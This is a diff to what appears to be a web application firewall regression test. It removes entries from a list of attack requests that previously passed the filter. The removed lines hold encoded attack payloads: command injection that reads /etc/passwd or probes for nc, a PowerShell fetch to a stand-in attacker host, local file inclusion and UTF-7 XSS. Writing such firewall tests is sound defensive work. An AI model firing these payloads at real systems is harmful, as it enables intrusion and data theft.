@@ -18,16 +18,7 @@ REFUSED = (400, 403, 415)
 # Requests of the corpus that pass both layers at paranoia level 1 (the CRS rules do not
 # name them there either): kept in the corpus so that a change in what passes is seen.
 KNOWN_MISSES = {
-    ("scanner", "GET", "/"),  # the jbrofuzz user agent and the X-Scan-Memo header
-    ("lfi", "GET", "/?page=WEB-INF%2Fweb.xml"),
-    ("rce", "GET", "/?host=127.0.0.1%250Aid"),
-    ("rce", "GET", "/?host=127.0.0.1%0Aid"),
-    ("rce", "GET", "/?host=127.0.0.1%3B%2F%3F%3F%3F%2Fc%3Ft%20%2F%3F%3F%3F%2Fp%3Fss%3F%3F"),
-    ("rce", "GET", "/?host=127.0.0.1%3B%20which%20nc"),
-    ("rce", "GET", "/?host=127.0.0.1%7Cbase64%20-d"),
-    ("rce", "GET", "/?cmd=%26%20Invoke-WebRequest%20http%3A%2F%2Fevil.example"),
-    ("rce", "GET", "/index.php/%24_GET%5Bcmd%5D"),
-    ("xss", "GET", "/?q=%2BADw-script%2BAD4-alert%281%29%2BADw-%2Fscript%2BAD4-"),
+    ("scanner", "GET", "/"),  # the X-Scan-Memo header (the jbrofuzz user agent of the same key is refused)
 }
 
 
